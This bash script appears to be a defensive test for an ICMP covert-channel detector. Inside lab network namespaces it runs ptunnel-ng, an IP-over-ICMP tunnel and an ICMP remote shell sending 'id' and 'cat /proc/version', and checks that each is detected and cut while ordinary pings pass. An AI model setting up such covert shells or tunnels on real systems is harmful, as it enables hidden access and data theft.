#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# Channels in echoes, through a gateway and on an endpoint: ptunnel-ng, a tunnel of IP packets and a shell are found
# while they carry data, and cut by their identifier; a ping between the same hosts continues. Pings of many kinds raise
# nothing.
#
# NETNS_LONG=1: fifty kinds of ping instead of twelve.

. "$(dirname "$0")/../lib"

MONITOR=203.0.113.20
PORT=5000
KILOBYTES=300
# Addresses of the ends inside the tunnel of IP packets, and of the shell.
TUNNEL_IDENTIFIER=4660
SHELL_IDENTIFIER=22136

if [ ! -c /dev/net/tun ] || ! ip -netns "$LAB-victim" tuntap add dev tun0 mode tun; then
	echo 'ok channels in echoes # SKIP this kernel has no tun devices'
	scenario_end
fi
ip -netns "$LAB-bystander" tuntap add dev tun0 mode tun
ip -netns "$LAB-victim" -batch - <<-END
	addr add 10.9.0.1/24 dev tun0
	link set tun0 up mtu 1000
END
ip -netns "$LAB-bystander" -batch - <<-END
	addr add 10.9.0.2/24 dev tun0
	link set tun0 up mtu 1000
END

# A listener whose input ends would close the connection.
mkfifo "$LAB_DIR/open"
exec 9<>"$LAB_DIR/open"

# listen HOST FILE - writes what arrives by TCP to the file, once a client connects
listen() {
	nsenter --net="/run/netns/$LAB-$1" -- busybox nc -l -p "$PORT" >"$LAB_DIR/$2" <&9 &
	wait_for 5 listens "$1"
}

listens() {
	[ -n "$(lab_in "$1" ss -Hltn "sport = :$PORT")" ]
}

# transfer HOST ADDRESS PORT KILOBYTES - sends that many, in the background, and keeps the connection open
transfer() {
	# shellcheck disable=SC2016 # for the other shell
	nsenter --net="/run/netns/$LAB-$1" -- bash -c \
		'exec 3<>"/dev/tcp/$0/$1" && head -c "$2"K /dev/urandom >&3; read -r <&3' "${@:2}" >/dev/null 2>&1 </dev/null &
}

received() {
	stat -c %s "$LAB_DIR/$1"
}

has_received() { # FILE BYTES
	[ "$(received "$1")" -ge "$2" ]
}

accepts() { # HOST PORT
	[ -n "$(lab_in "$1" ss -Hltn "sport = :$2")" ]
}

# The proxy on the attacker, the forwarder on the victim.
ptunnel_up() {
	lab_start attacker ptunnel-ng -r127.0.0.1 -R"$PORT" -v0
	PTUNNEL=("$LAB_PID")
	lab_start victim ptunnel-ng -p"$ATTACKER" -l2222 -r127.0.0.1 -R"$PORT" -v0
	PTUNNEL+=("$LAB_PID")
	wait_for 5 accepts victim 2222
}

# The client is outside, and the server at home.
tunnel_up() {
	lab_start victim "$top/build/echo_tunnel" server tun0 "$BYSTANDER" "$TUNNEL_IDENTIFIER"
	TUNNEL=("$LAB_PID")
	lab_start bystander "$top/build/echo_tunnel" client tun0 "$VICTIM" "$TUNNEL_IDENTIFIER"
	TUNNEL+=("$LAB_PID")
	wait_for 5 reaches bystander 10.9.0.1
}

shell_up() {
	for _ in 1 2 3 4 5; do printf '%s\n' id 'cat /proc/version'; done |
		nsenter --net="/run/netns/$LAB-victim" -- "$top/build/echo_shell" master "$MONITOR" "$SHELL_IDENTIFIER" \
			>"$LAB_DIR/shell" &
	MASTER=$!
	lab_start monitor "$top/build/echo_shell" slave "$VICTIM" "$SHELL_IDENTIFIER"
	SLAVE=$LAB_PID
}

# Fifty kinds of ping, each to an address of its own; NETNS_LONG=1 for all of them.
pings() {
	cat <<-'END'
		ping -q -n -c 30 -i 0.05
		ping -q -n -c 20 -i 0.05 -s 1400
		ping -q -n -c 20 -i 0.05 -p 00112233445566778899aabbccddeeff
		ping -q -n -c 20 -i 0.05 -p deadbeef -s 100
		ping -q -n -c 500 -i 0.01
		timeout 3 ping -q -n -f -c 2000
		fping -q -c 20 -p 50
		hping3 -q --icmp -c 20 -i u50000 -d 64
		nping -q --icmp -c 20 --rate 20
		nping -q --icmp -c 20 --rate 20 --data-length 64
		busybox ping -q -c 3 -i 1
		steps ping -q -n -c 1 -s
	END
	[ -n "${NETNS_LONG-}" ] || return
	cat <<-'END'
		ping -q -n -c 30 -i 0.05 -s 0
		ping -q -n -c 30 -i 0.05 -s 1
		ping -q -n -c 30 -i 0.05 -s 7
		ping -q -n -c 30 -i 0.05 -s 8
		ping -q -n -c 30 -i 0.05 -s 15
		ping -q -n -c 30 -i 0.05 -s 16
		ping -q -n -c 30 -i 0.05 -s 17
		ping -q -n -c 30 -i 0.05 -s 24
		ping -q -n -c 30 -i 0.05 -s 56 -Q 0x10
		ping -q -n -c 30 -i 0.05 -s 500
		ping -q -n -c 30 -i 0.05 -s 1472
		ping -q -n -c 30 -i 0.05 -s 4000
		ping -q -n -c 10 -i 0.05 -s 20000
		ping -q -n -c 30 -i 0.05 -p ff
		ping -q -n -c 30 -i 0.05 -p 00ff
		ping -q -n -c 30 -i 0.05 -p aa55aa55
		ping -q -n -c 30 -i 0.05 -p 0102030405060708090a -s 200
		ping -q -n -c 30 -i 0.05 -p 68656c6c6f -s 300
		ping -q -n -c 30 -i 0.05 -e 1
		ping -q -n -c 30 -i 0.05 -e 65535 -s 300
		ping -q -n -c 30 -i 0.05 -M do -s 1200
		ping -q -n -c 30 -i 0.05 -t 5
		ping -q -n -c 100 -i 0.02 -l 3
		ping -q -n -c 30 -A
		ping -q -n -c 5 -i 1
		ping -q -n -c 4 -i 2 -s 100
		ping -q -n -c 30 -i 0.05 -D
		ping -q -n -c 30 -i 0.05 -U
		fping -q -c 20 -p 50 -b 12
		fping -q -c 20 -p 50 -b 500
		fping -q -C 10 -p 100
		hping3 -q --icmp -c 20 -i u50000
		hping3 -q --icmp -c 20 -i u50000 -d 1000
		hping3 -q --icmp -c 20 -i u50000 --icmp-ipid 7
		nping -q --icmp -c 20 --rate 20 --data-string keepalive-from-host-a
		nping -q --icmp -c 20 --rate 20 --icmp-id 7 --icmp-seq 9
		identifiers ping -q -n -c 5 -i 0.02 -s 56 -e
		busybox ping -q -c 3 -i 1 -s 200
		steps ping -q -n -c 2 -i 0.02 -s
	END
}

# Runs a command repeatedly, with sizes or identifiers appended.
helpers() {
	printf '#!/bin/sh
%s
' 'for n in 100 250 400 550 700 850 1000 1150 1300 1450; do "$@" $n $TO; done' >"$LAB_DIR/steps"
	printf '#!/bin/sh
%s
' 'for n in $(seq 100 140); do "$@" $n $TO; done' >"$LAB_DIR/identifiers"
	chmod +x "$LAB_DIR/steps" "$LAB_DIR/identifiers"
}

# Checks for no more than info about channels (together they are a flood); otherwise prints the records.
silent() {
	local loud='(.rule | IN("tunnel", "exfiltration", "beacon", "covert-field")) and .severity != "info"'
	equal 0 "$(records "$loud")" ||
		! jq -c ".icmpguard | select($loud) | [.rule, .offender, .target, .measures]" "$LAB_DIR/alerts.json"
}

# in_silence - runs all of the pings at once, each to a host of its own
in_silence() {
	local number=100 command pids=()
	helpers
	while read -r command; do
		number=$((number + 1))
		lab_ip attacker <<<"addr replace 203.0.113.$number/24 dev eth0"
		# shellcheck disable=SC2086 # words
		case $command in
		steps* | identifiers*) TO=203.0.113.$number lab_start victim env "$LAB_DIR"/$command ;;
		*) lab_start victim $command 203.0.113.$number ;;
		esac
		pids+=("$LAB_PID")
	done < <(pings)
	for command in "${pids[@]}"; do
		wait "$command"
	done
	check "$GUARD_HOST: $((number - 100)) kinds of ping: silent" silent
}

end() {
	local pid
	for pid; do lab_stop "$pid" KILL; done
}

# tunnel CLIENT SERVER - prints a filter: the alert about the two
tunnel() {
	echo ".rule == \"tunnel\" and .severity != \"info\" and .roles.client == \"$1\" and .roles.server == \"$2\""
}

# cut_by IDENTIFIER - prints the packets that the identifier's block has dropped; -1 if there is none
cut_by() {
	guard list --json | jq --argjson identifier "$1" \
		'[.blocks[] | select(.identifier == $identifier).packets] | add // -1'
}

is_cut() { # IDENTIFIER [TIMES]
	[ "$(cut_by "$1")" -ge "${2:-0}" ]
}

# The identifier of ptunnel-ng is random; it is in the alert.
identifier() { # CLIENT SERVER
	alert "$(tunnel "$1" "$2")" '.roles.identifiers[0] // -1'
}

# stops FILE IDENTIFIER - checks that nothing more arrives while the block drops more
stops() {
	local before hits
	before=$(received "$1")
	hits=$(cut_by "$2")
	wait_for 10 is_cut "$2" $((hits + 3)) || return
	equal "$before" "$(received "$1")"
}

pings_all() { # HOST ADDRESS
	lab_in "$1" ping -q -n -c 20 -i 0.05 -W 2 "$2"
}

# in_monitor_mode WHERE - all of it passes, and is found
in_monitor_mode() {
	local size=$((KILOBYTES * 1024)) started
	listen attacker by-ptunnel
	listen victim by-tunnel
	ptunnel_up
	tunnel_up
	shell_up
	started=$(now_us)
	transfer victim 127.0.0.1 2222 "$KILOBYTES"
	transfer bystander 10.9.0.1 "$PORT" "$KILOBYTES"
	check "$1: ptunnel-ng is found" wait_for 10 alert_told "$(tunnel "$VICTIM" "$ATTACKER")"
	check "$1: a tunnel of IP packets is found" wait_for 10 alert_told "$(tunnel "$BYSTANDER" "$VICTIM")"
	started=$(($(now_us) - started))
	check "$1: both within 10 s" at_most 10000000 "$started"
	echo "# $1: found after $started us"
	check "$1: ptunnel-ng carried all" wait_for 15 has_received by-ptunnel "$size"
	check "$1: the tunnel carried all" wait_for 15 has_received by-tunnel "$size"
	check "$1: a shell is found" wait_for 15 alert_told "$(tunnel "$MONITOR" "$VICTIM")"
	check "$1: the shell obeyed" wait_for 15 says 'Linux version' "$LAB_DIR/shell"
	check "$1: it would be cut" equal would_block "$(alert "$(tunnel "$VICTIM" "$ATTACKER")" .action)"
	end "${PTUNNEL[@]}" "${TUNNEL[@]}" "$SLAVE" "$MASTER"
}

# in_enforce_mode WHERE - data channels are cut, and a ping between the same hosts is not
in_enforce_mode() {
	local number
	listen attacker by-ptunnel
	listen victim by-tunnel
	ptunnel_up
	tunnel_up
	transfer victim 127.0.0.1 2222 100000
	transfer bystander 10.9.0.1 "$PORT" 100000
	check "$1: ptunnel-ng is cut" wait_for 10 alert_told "$(tunnel "$VICTIM" "$ATTACKER") and .action == \"blocked\""
	number=$(identifier "$VICTIM" "$ATTACKER")
	check "$1: by its identifier" wait_for 5 is_cut "$number" 1
	check "$1: its transfer stops" stops by-ptunnel "$number"
	check "$1: the tunnel of IP packets is cut" wait_for 10 is_cut "$TUNNEL_IDENTIFIER" 1
	check "$1: its transfer stops, too" stops by-tunnel "$TUNNEL_IDENTIFIER"
	check "$1: a ping of the same hosts goes on" pings_all victim "$ATTACKER"
	check "$1: and the other way" pings_all bystander "$VICTIM"
	end "${PTUNNEL[@]}" "${TUNNEL[@]}"
}

GUARD_HOST=gateway
guard_start inside0 --set poll-interval=200ms
in_silence
in_monitor_mode gateway
guard_stop
# A tunnel is also a flood, whose block would hide the other.
ENFORCE=(--enforce --set poll-interval=200ms --set rules.flood-source.response=none)
rm -f "$LAB_DIR/alerts.json"
guard_start inside0 "${ENFORCE[@]}"
in_enforce_mode gateway
guard_stop
GUARD_HOST=victim
rm -f "$LAB_DIR/alerts.json"
guard_start eth0 --set poll-interval=200ms
in_silence
in_monitor_mode endpoint
guard_stop
rm -f "$LAB_DIR/alerts.json"
guard_start eth0 "${ENFORCE[@]}"
in_enforce_mode endpoint
shell_up
check 'endpoint: a shell is found' wait_for 15 alert_told "$(tunnel "$MONITOR" "$VICTIM")"
end "$SLAVE" "$MASTER"
guard_stop
scenario_end
